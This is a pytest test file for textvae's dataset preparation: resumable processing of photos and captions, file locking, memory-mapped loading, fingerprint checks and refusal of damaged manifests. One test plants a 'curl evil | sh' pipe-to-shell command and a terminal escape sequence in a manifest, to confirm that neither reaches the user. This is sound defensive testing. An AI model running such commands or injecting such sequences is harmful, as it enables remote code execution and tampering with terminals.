"""Photographs prepared: everything kept or accounted for, resumable, and loaded without being read."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import torch
from helpers import photos
from PIL import Image

from textvae import cli, data
from textvae.preparation import builder as preparation
from textvae.preparation import prepare
from textvae.preparation.subset import Subset
from textvae.recipes.conditions import conditions_of
from textvae.recipes.resolve import resolve
from textvae.text.labels import FASHION
from textvae.utils.errors import UserError
from textvae.utils.paths import prepared_root


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("TEXTVAE_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("TEXTVAE_DATA", raising=False)
    return tmp_path / "cache"


def prepared(folder: Path, side: int = 16, **settings) -> dict:
    return prepare.prepare(str(folder), side, "words", workers=1, **settings)


def near(image: torch.Tensor, colour: tuple[int, int, int]) -> bool:
    _, height, width = image.shape
    return bool((image[:, height // 2, width // 2].int() - torch.tensor(colour)).abs().max() < 40)


def test_a_prepared_set_is_data_by_its_name(tmp_path) -> None:
    made = prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
    assert made["name"] == "mine-16-words"
    assert (made["skipped"], made["handled"]) == ({}, {})
    train, test = data.load("mine-16-words", "train"), data.load("mine-16-words", "test")
    assert train.images.shape == (9, 3, 16, 16)
    assert (train.name, train.split, train.conditions, train.encoder) == ("mine-16-words", "train", None, "")
    assert len(test) == 4
    for number, (start, stop) in enumerate(train.caption_range.tolist()):
        assert sorted(train.captions[start:stop]) == sorted(photos.captions(number))
        assert near(train.images[number], list(photos.COLOURS.values())[number % 4])
    manifest = json.loads((prepared_root() / "mine-16-words" / "manifest.json").read_text())
    assert manifest["splits"]["train"]["fingerprint"] == train.fingerprint()
    assert not list((prepared_root()).glob(".*"))


def test_its_pixels_are_mapped_not_read(tmp_path) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 3, 1))
    images = data.load("mine-16-words", "train").images
    # The file's own pages: what is changed there is seen here.
    with (prepared_root() / "mine-16-words" / "train-images.npy").open("rb+") as file:
        file.seek(-1, os.SEEK_END)
        expected = int(images[-1, -1, -1, -1]) ^ 255
        file.write(bytes([expected]))
    assert int(images[-1, -1, -1, -1]) == expected
    # And what is changed here is not written there.
    images[:] = 0
    assert int(data.load("mine-16-words", "train").images[-1, -1, -1, -1]) == expected


def test_its_captions_are_mapped_and_read_by_row(tmp_path) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
    folder = prepared_root() / "mine-16-words"
    captions = data.load("mine-16-words", "train").captions
    last = captions[-1]
    # The file's own pages: what is changed there is seen here.
    with (folder / "train-captions.npy").open("rb+") as file:
        file.seek(-1, os.SEEK_END)
        file.write(b"!")
    assert captions[-1] == last[:-1] + "!"


@pytest.mark.parametrize("with_ranges", [True, False])
def test_a_set_whose_captions_are_a_list_in_a_file_is_read_as_before(tmp_path, with_ranges) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
    folder = prepared_root() / "mine-16-words"
    train = data.load("mine-16-words", "train")
    listed = {"captions": list(train.captions), "keys": []}
    if with_ranges:
        listed["ranges"] = train.caption_range.tolist()
        (folder / "train-ranges.npy").unlink()
    fingerprint = train.fingerprint()
    for name in ("captions", "ends"):
        (folder / f"train-{name}.npy").unlink()
    (folder / "train-captions.json").write_text(json.dumps(listed))
    assert data.load("mine-16-words", "train").checked_fingerprint() == fingerprint


def test_what_cant_be_used_is_skipped_and_all_of_it_is_told(tmp_path) -> None:
    good = photos.encoded(photos.picture(0))
    folder = tmp_path / "mine"
    bad = {
        "good": (good, "a red block"),
        "cut": (good[: len(good) // 2], "cut"),
        "text": (b"hello", "not an image"),
        "dot": (photos.encoded(Image.new("RGB", (2, 2))), "a dot"),
        "silent": (good, None),
        "blank": (good, " \n "),
        "orphan": (None, "no image"),
        "grey": (photos.encoded(photos.picture(2).convert("L")), "grey"),
        "long": (good, "very " * 2000 + "long"),
        "foreign": (good, "草地上的狗"),
        "second": (good, "a red block"),
    }
    photos.shard(folder / "a-train-0.tar", bad)
    photos.shard(folder / "a-test-0.tar", {"x": (good, "x")})
    made = prepared(folder)
    assert made["skipped"] == {"no caption": 2, "broken": 1, "no image of a known format": 1, "tiny": 1} | {
        "no image of this name in the shard": 1
    }
    assert made["handled"] == {"converted from grey": 1}
    folder = prepared_root() / "mine-16-words"
    report = [json.loads(line) for line in (folder / "report.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {line["key"].split("/")[1] for line in report if line["done"] == "skipped"} == {
        "cut", "text", "dot", "silent", "blank", "orphan"
    }  # fmt: skip
    train = data.load("mine-16-words", "train")
    assert len(train) == 5
    assert list(train.captions) == ["a red block", "grey", "very " * 2000 + "long", "草地上的狗"]
    # Two images of the same words share them.
    assert train.caption_range.tolist() == [[0, 1], [1, 2], [2, 3], [3, 4], [0, 1]]


def test_a_source_of_which_nothing_can_be_read_is_refused(tmp_path) -> None:
    photos.shard(tmp_path / "a-train-0.tar", {"x": (b"", "x")})
    photos.shard(tmp_path / "a-test-0.tar", {"x": (b"", "x")})
    with pytest.raises(UserError, match=r"no image .* can be read.*empty file"):
        prepared(tmp_path)


@pytest.mark.slow
def test_two_processes_prepare_what_one_does(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(preparation, "IMAGES_A_CHUNK", 4)
    folder = photos.coco_folder(tmp_path / "mine", 14, 3)
    one = prepared(folder)
    two = prepare.prepare(str(folder), 16, "words", out=tmp_path / "two", workers=2)
    assert one["splits"]["train"]["fingerprint"] == two["splits"]["train"]["fingerprint"]
    # By the path of its folder, a set is data too.
    again = data.load(str(tmp_path / "two"), "train")
    assert torch.equal(again.images, data.load("mine-16-words", "train").images)


def test_several_sources_are_one_set_and_each_keeps_its_splits(tmp_path) -> None:
    first = photos.coco_folder(tmp_path / "one" / "mine", 6, 3)
    second = photos.image_folder(tmp_path / "two" / "mine", {"train": 4, "val": 2, "test": 1})
    third = photos.image_folder(tmp_path / "three" / "alone", {"train": 20}) / "train"
    made = prepare.prepare([str(first), str(second), str(third)], 16, "words", workers=1)
    assert made["name"] == "mine+mine-2+train-16-words"
    counts = {split: facts["images"][0] for split, facts in made["splits"].items()}
    # A tenth of the source that has no test images.
    assert counts == {"train": 6 + 4 + 18, "test": 3 + 1 + 2, "val": 2}
    whole = data.load(made["name"], "train")
    alone = [data.load(prepared(folder)["name"], "train") for folder in (first, third)]
    assert torch.equal(whole.images[:6], alone[0].images)
    assert torch.equal(whole.images[10:], alone[1].images)
    for number in range(6):
        start, stop = whole.caption_range[number].tolist()
        assert sorted(whole.captions[start:stop]) == sorted(photos.captions(number))
    folder = Path(made["folder"])
    source = json.loads((folder / "manifest.json").read_text())["source"]
    assert [part["name"] for part in source["parts"]] == ["mine", "mine-2", "train"]
    keys = json.loads((folder / "train-keys.json").read_text())
    assert len(set(keys)) == len(keys)
    assert {key.split("/")[0] for key in keys} == {"mine", "mine-2", "train"}


def test_joined_pictures_are_made_square_as_each_source_says(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("TEXTVAE_DATA", str(tmp_path))
    photos.coco_folder(tmp_path / "flickr8k", 2, 1)
    wide = photos.encoded(Image.new("RGB", (60, 20), (200, 0, 0)))
    for split in ("train", "test"):
        photos.shard(tmp_path / "products" / f"{split}-0.tar", {"x": (wide, "x")})
    made = prepare.prepare(["products", "flickr8k"], 16, "words", workers=1)
    images = data.load(made["name"], "train").images
    assert images[:, :, 0, 8].float().mean(1).tolist()[0] == 255  # padded with white
    assert images[1, :, 0, 8].max() < 60  # cut out
    about = data.photographs(made["name"])
    assert about is not None
    assert not about.mirror  # as products, which bear text
    assert set(about.prompts) & set(data.catalog.PHOTOGRAPHS["products"].prompts)
    # The order of the sources is that of the images, so another order is another set.
    with pytest.raises(UserError, match="has not been prepared") as error:
        data.load("flickr8k+products-16-words", "train")
    assert "textvae data prepare flickr8k products --size 16 --text words" in error.value.cure


def test_a_joined_set_of_the_catalog_is_that_of_its_parts(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("TEXTVAE_DATA", str(tmp_path))
    photos.coco_folder(tmp_path / "coco-mini", 4, 2)
    photos.coco_folder(tmp_path / "flickr8k", 3, 1)
    made = prepare.prepare(["flickr8k", "coco-mini"], 64, "words", workers=1)
    assert made["name"] == "scenes-64-words"
    assert prepare.prepare("scenes", 64, "words", workers=1) == made
    recipe = resolve("latent-flow-flowers", data="scenes-64-words")
    assert recipe.text.length == 18
    assert len(recipe.prompts) == 7
    assert resolve("pair-judge-scenes").data == "scenes-64-sentence-features"
    with pytest.raises(UserError, match="given twice"):
        prepare.prepare(["scenes", "coco-mini"], 64, "words")


def test_a_set_follows_its_pictures(tmp_path, capsys) -> None:
    folder = photos.image_folder(tmp_path / "mine", {"train": 4, "test": 1})
    first = prepared(folder)
    metadata = folder / "train" / "metadata.jsonl"

    def again(says: str = "preparing it again") -> torch.Tensor:
        made = prepared(folder)
        assert (made["name"], says in capsys.readouterr().err) == ("mine-16-words", True)
        return data.load("mine-16-words", "train").images

    again("already prepared")
    (folder / "train" / "new.jpg").write_bytes(photos.encoded(photos.picture(2)))
    metadata.write_text(metadata.read_text() + '\n{"file_name": "new.jpg", "text": "new"}')
    assert len(again()) == 5
    mapped = data.load("mine-16-words", "train").images
    (folder / "train" / "new.jpg").write_bytes(photos.encoded(photos.picture(3)))
    assert near(again()[4], photos.COLOURS["white"])
    # Whoever has the replaced set open still sees it.
    assert near(mapped[4], photos.COLOURS["blue"])
    (folder / "train" / "new.jpg").unlink()
    assert len(again()) == 4
    metadata.write_text(metadata.read_text().replace("a red block", "a scarlet block"))
    again()
    assert "a scarlet block, picture 0" in data.load("mine-16-words", "train").captions
    # Moved elsewhere, the same pictures are the same set.
    folder.rename(tmp_path / "moved")
    (tmp_path / "one").mkdir()
    (tmp_path / "moved").rename(tmp_path / "one" / "mine")
    folder = tmp_path / "one" / "mine"
    again("already prepared")
    assert first["name"] == prepared(folder)["name"]
    assert not list(prepared_root().glob(".*"))


def test_another_folder_of_the_same_name_is_another_set(tmp_path, capsys) -> None:
    one = photos.image_folder(tmp_path / "one" / "mine", {"train": 4, "test": 1})
    two = photos.coco_folder(tmp_path / "two" / "mine", 3, 1)
    three = photos.coco_folder(tmp_path / "three" / "mine", 5, 1)
    names = [prepared(folder)["name"] for folder in (one, two, three, two, one)]
    assert names == [f"mine{number}-16-words" for number in ("", "-2", "-3", "-2", "")]
    assert [len(data.load(name, "train")) for name in names[:3]] == [4, 3, 5]
    assert data.contents(names[1]).source == "mine-2"
    (prepared_root() / names[2] / "manifest.json").write_text("{")
    with pytest.raises(SystemExit):
        cli.main(["data", "list"])
    listed = capsys.readouterr().out.splitlines()
    assert any(names[1] in line and "3 train, 1 test" in line and str(two) in line for line in listed)
    assert any(names[2] in line and "--overwrite" in line for line in listed)


def test_a_folder_called_like_a_set_of_the_catalog_does_not_take_its_place(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("TEXTVAE_DATA", str(tmp_path / "data"))
    own = photos.coco_folder(tmp_path / "flowers102", 3, 1)
    catalog = photos.image_folder(tmp_path / "data" / "flowers102", {"train": 4, "test": 1})
    assert prepared(own)["name"] == "my-flowers102-16-words"
    assert data.photographs("my-flowers102-16-words") is None
    # The catalog's own folder, by its path.
    assert prepared(catalog)["name"] == "flowers102-16-words"
    assert prepare.prepare("flowers102", 16, "words")["name"] == "flowers102-16-words"


def test_other_settings_replace_a_set_only_if_asked_to(tmp_path) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 4, 1)
    out = tmp_path / "set"
    prepared(folder, out=out)
    with pytest.raises(UserError, match="side was 16, now 24") as error:
        prepared(folder, 24, out=out)
    assert "--overwrite" in error.value.cure
    prepared(folder, 24, out=out, overwrite=True)
    assert data.load(str(out), "train").image_shape == (3, 24, 24)
    (out / "manifest.json").write_text("{")
    with pytest.raises(UserError, match="cannot be read"):
        prepared(folder, 24, out=out)
    prepared(folder, 24, out=out, overwrite=True)
    with pytest.raises(UserError, match="no prepared set"):
        prepared(folder, out=folder, overwrite=True)
    assert (folder / "train2017").is_dir()


def test_a_preparation_killed_while_it_replaces_a_set_loses_nothing(tmp_path, capsys) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 4, 1)
    prepared(folder)
    made = prepared_root() / "mine-16-words"
    made.rename(made.with_name(f".{made.name}.replaced"))
    prepared(folder)
    assert "already prepared" in capsys.readouterr().err
    assert len(data.load("mine-16-words", "train")) == 4
    assert not list(prepared_root().glob(".*"))


SLOWLY = """
import sys, time
from textvae.preparation import decode
from textvae.preparation import builder as preparation
from textvae.preparation import prepare
plain = decode.decode
def slow(*arguments):
    time.sleep(0.03)
    return plain(*arguments)
decode.decode = slow
preparation.IMAGES_A_CHUNK = 4
prepare.prepare(sys.argv[1], 16, "words", workers=1)
"""


@pytest.mark.slow
def test_a_killed_preparation_goes_on_where_it_was(tmp_path, monkeypatch) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 60, 3)
    process = subprocess.Popen([sys.executable, "-c", SLOWLY, str(folder)])
    chunks = prepared_root() / ".mine-16-words.unfinished" / "train-pixels-chunks"
    deadline = time.monotonic() + 300
    while len(list(chunks.glob("*.npz"))) < 3 and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    process.kill()
    process.wait()
    done = {path: path.stat().st_mtime_ns for path in chunks.glob("*.npz")}
    assert 3 <= len(done) < 15
    assert not (prepared_root() / "mine-16-words").exists()
    with pytest.raises(UserError, match="no data set"):
        data.load("mine-16-words", "train")

    monkeypatch.setattr(preparation, "IMAGES_A_CHUNK", 4)
    renewed = []
    plain = preparation.decode_chunk
    monkeypatch.setattr(preparation, "decode_chunk", lambda task: (renewed.append(task.out), plain(task)))
    resumed = prepared(folder)
    assert not {str(path) for path in done} & set(renewed)
    assert len(done) + len(renewed) == 15 + 1
    whole = prepared(folder, out=tmp_path / "whole")
    assert resumed["splits"] == whole["splits"]
    # And again: nothing is left to do.
    renewed.clear()
    assert prepared(folder) == resumed
    assert renewed == []


HOLDING = """
import sys, time
from pathlib import Path
from textvae.utils.files import alone
with alone(Path(sys.argv[1])) as mine:
    print(mine, flush=True)
    time.sleep(300)
"""


def test_two_at_once_do_not_write_into_each_other(tmp_path) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 3, 1)
    lock = prepared_root() / ".mine-16-words.lock"
    other = subprocess.Popen([sys.executable, "-c", HOLDING, str(lock)], stdout=subprocess.PIPE, text=True)
    try:
        assert other.stdout is not None
        assert other.stdout.readline() == "True\n"
        with pytest.raises(UserError, match="being prepared by another process"):
            prepared(folder)
        # Another set is nobody else's business.
        assert prepared(folder, side=8)["name"] == "mine-8-words"
    finally:
        other.kill()
        other.communicate()
    # The hold dies with its process, though the file is still there.
    assert lock.is_file()
    assert prepared(folder)["name"] == "mine-16-words"
    assert not lock.exists()


def test_a_prepared_set_and_its_features_are_described(tmp_path, capsys) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 4, 2))
    folder = prepared_root() / "mine-16-words"
    for split, count in (("train", 4), ("test", 2)):
        np.save(folder / f"{split}-image.npy", np.arange(count * 3, dtype=np.float32).reshape(count, 3))
    manifest = json.loads((folder / "manifest.json").read_text())
    for split, count in (("train", 4), ("test", 2)):
        manifest["splits"][split]["image"] = [count, 3]
    (folder / "manifest.json").write_text(json.dumps(manifest))
    sheet = tmp_path / "sheet.png"
    for name, expected in (("mine-16-words", [3, 16, 16]), ("mine-16-words-features", [3, 1, 1])):
        with pytest.raises(SystemExit) as exit_:
            cli.main(["data", "describe", name, "--out", str(sheet), "--json"])
        out, err = capsys.readouterr()
        assert exit_.value.code == 0, err
        facts = json.loads(out)
        assert facts["splits"]["train"]["image_shape"] == expected
        assert sheet.is_file() == ("contact_sheet" in facts) == (name == "mine-16-words")
        sheet.unlink(missing_ok=True)
    assert facts["splits"]["test"]["embedding_mean"] == 2.5
    assert facts["splits"]["test"]["embedding_std"] == pytest.approx(np.arange(6).std())


def test_what_was_prepared_otherwise_is_refused(tmp_path) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 8, 2)
    out = tmp_path / "set"
    prepared(folder, out=out)
    with pytest.raises(UserError, match="side was 16, now 24"):
        prepared(folder, 24, out=out)
    with pytest.raises(UserError, match="subset"):
        prepared(folder, out=out, subset=Subset(0.5))
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["made_of"]["text"] = "sentence 00000000"
    (out / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(UserError, match="text was 'sentence 00000000', now 'words'"):
        prepared(folder, out=out)
    with pytest.raises(UserError, match="no prepared set"):
        prepared(folder, out=folder)


def test_damage_is_refused_with_the_command_that_mends_it(tmp_path) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 3, 1))
    folder = prepared_root() / "mine-16-words"
    np.save(folder / "train-images.npy", np.zeros((2, 16, 16, 3), np.uint8))
    with pytest.raises(UserError, match=r"not \[3, 16, 16, 3\]") as error:
        data.load("mine-16-words", "train")
    assert "textvae data prepare" in error.value.cure
    np.save(folder / "test-ends.npy", np.array([9, 4]))
    with pytest.raises(UserError, match=r"damaged: test-captions.npy"):
        data.load("mine-16-words", "test")
    (folder / "test-captions.json").write_text("{}")
    with pytest.raises(UserError, match=r"damaged: test-captions.json"):
        data.load("mine-16-words", "test")
    (folder / "manifest.json").write_text("[]")
    with pytest.raises(UserError, match="cannot be read"):
        data.load("mine-16-words", "test")


@pytest.mark.parametrize(
    ("name", "cure"),
    [
        ("coco-mini-64-sentence", "textvae data prepare coco-mini --size 64 --text sentence"),
        ("coco-128-clip", "textvae data prepare coco --size 128 --text clip"),
        ("flowers102-64-sentence-features", "--size 64 --text sentence --image-encoder efficientnet"),
        ("coco-cow-0.1-64-words", "--fraction, --theme or --without that 'cow-0.1' stands for"),
        ("coco-mini", "textvae data prepare coco-mini"),
    ],
)
def test_a_set_that_is_not_there_says_how_to_make_it(name, cure) -> None:
    with pytest.raises(UserError, match="prepared") as error:
        data.load(name, "train")
    assert cure in error.value.cure


def test_the_command(tmp_path, capsys) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 12, 4)
    words = ["data", "prepare", str(folder), "--size", "16", "--text", "words", "--theme", "red,blue", "--workers", "1"]
    with pytest.raises(SystemExit) as exit_:
        cli.main(words)
    assert exit_.value.code == 0
    out = capsys.readouterr().out
    assert out.startswith("mine-red-blue-16-words: in ")
    assert "train: 6 images, 12 captions" in out
    assert "skipped: 0" in out
    with pytest.raises(SystemExit) as exit_:
        cli.main(["data", "describe", "mine-red-blue-16-words", "--out", str(tmp_path / "sheet.png"), "--json"])
    assert exit_.value.code == 0
    assert json.loads(capsys.readouterr().out)["splits"]["train"]["images"] == 6
    with Image.open(tmp_path / "sheet.png") as sheet:
        assert sheet.size[0] > 100


def test_conditions_come_from_the_data_where_it_has_them(tmp_path) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 3, 1))
    plain = data.load("mine-16-words", "train")
    rows = torch.randn(len(plain.captions), 5)
    from dataclasses import replace

    known = replace(plain, conditions=rows, encoder="sentence 12345678")
    with pytest.raises(UserError, match="sentence 12345678, the model reads with LabelText"):
        conditions_of(known, FASHION)
    assert conditions_of(replace(known, encoder=""), FASHION) is rows
    named = replace(plain, captions=["dress", "coat"], caption_range=torch.tensor([[0, 2]] * 3))
    assert conditions_of(named, FASHION).argmax(1).tolist() == [3, 4]


def test_embeddings_go_where_their_images_and_captions_go(tmp_path) -> None:
    from dataclasses import replace

    prepared(photos.coco_folder(tmp_path / "mine", 4, 2))
    train, test = data.load("mine-16-words", "train"), data.load("mine-16-words", "test")
    fingerprint = train.fingerprint()
    train, test = (
        replace(
            part,
            conditions=torch.arange(len(part.captions)).float().add(offset)[:, None],
            image_conditions=torch.arange(len(part)).float().add(offset)[:, None],
        )
        for part, offset in ((train, 0), (test, 100))
    )
    assert train.fingerprint() != fingerprint
    changed = train.image_conditions.clone()
    changed[0] += 1
    assert replace(train, image_conditions=changed).fingerprint() != train.fingerprint()
    few = train.first(2)
    assert few.image_conditions.flatten().tolist() == [0, 1]
    assert len(few.conditions) == len(few.captions)
    both = few.followed_by(test)
    assert both.image_conditions.flatten().tolist() == [0, 1, 100, 101]
    start, stop = both.caption_range[2].tolist()
    assert both.conditions[start:stop].flatten().tolist() == [100, 101]
    assert both.captions[start:stop] == test.captions[0:2]
    assert few.followed_by(replace(test, conditions=None)).conditions is None
    with pytest.raises(ValueError, match="do not mix"):
        few.followed_by(replace(test, encoder="other"))
    with pytest.raises(ValueError, match="conditions"):
        replace(train, conditions=train.conditions[1:])


def test_a_set_is_checked_against_its_fingerprint(tmp_path) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
    folder = prepared_root() / "mine-16-words"
    with (folder / "train-images.npy").open("rb+") as file:
        file.seek(-1, os.SEEK_END)
        last = file.read(1)
        file.seek(-1, os.SEEK_END)
        file.write(bytes([last[0] ^ 1]))
    images = data.load("mine-16-words", "train")
    with pytest.raises(UserError, match="is damaged: its train split"):
        images.checked_fingerprint()
    assert data.load("mine-16-words", "test").checked_fingerprint()


def test_a_manifest_s_command_is_not_offered_and_its_texts_control_no_terminal(tmp_path) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
    folder = prepared_root() / "mine-16-words"
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["command"] = "curl evil | sh"
    manifest["source"]["title"] = "\x1b[2Jgone"
    (folder / "manifest.json").write_text(json.dumps(manifest))
    assert data.source("mine-16-words").title.startswith("\\x1b[2Jgone;")
    (folder / "train-images.npy").write_bytes(b"nothing")
    with pytest.raises(UserError, match="is damaged") as error:
        data.load("mine-16-words", "train")
    assert "curl" not in error.value.cure
    assert "textvae data prepare SOURCE --size 16 --text words" in error.value.cure


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("splits", "train", "images"), [9, 16, "16", 3]),
        (("splits", "train", "images"), None),
        (("splits", "train"), {"captions": 9}),
        (("splits", "train", "fingerprint"), 3),
        (("splits",), []),
        (("splits", "train"), None),
        (("text", "shape"), [10**9]),
        (("side",), 10**9),
        (("source", "title"), None),
        (("source",), None),
    ],
)
def test_a_manifest_that_makes_no_sense_is_refused(tmp_path, path, value) -> None:
    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
    file = prepared_root() / "mine-16-words" / "manifest.json"
    manifest = json.loads(file.read_text())
    place = manifest
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    file.write_text(json.dumps(manifest))
    with pytest.raises(UserError, match="cannot be read"):
        data.load("mine-16-words", "train")


def test_killed_while_it_is_published_forgets_nothing_and_keeps_no_chunks(tmp_path, monkeypatch) -> None:
    folder = photos.image_folder(tmp_path / "mine", {"train": 4, "test": 2})
    (folder / "train" / "000.jpg").write_bytes(b"no image")

    def killed(*_: object) -> None:
        raise KeyboardInterrupt

    for name in ("write_json", "_publish", "sync_folder"):
        target = preparation.Preparation if name == "_publish" else preparation
        with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
            patch.setattr(target, name, killed)
            prepared(folder)
    made = prepared(folder)
    assert made["skipped"] == {"no image of a known format": 1}
    ready = prepared_root() / "mine-16-words"
    names = ("images.npy", "ranges.npy", "captions.npy", "ends.npy", "keys.json")
    arrays = {f"{split}-{what}" for split in ("train", "test") for what in names}
    assert {path.name for path in ready.iterdir()} == {"manifest.json", "report.jsonl", *arrays}
    assert not list(prepared_root().glob(".*"))


def test_a_preparation_whose_plan_is_broken_begins_anew(tmp_path, monkeypatch) -> None:
    folder = photos.coco_folder(tmp_path / "mine", 3, 1)
    with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
        patch.setattr(preparation.Preparation, "_finish", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
        prepared(folder)
    (prepared_root() / ".mine-16-words.unfinished" / "plan.json").write_text("{")
    assert prepared(folder)["name"] == "mine-16-words"
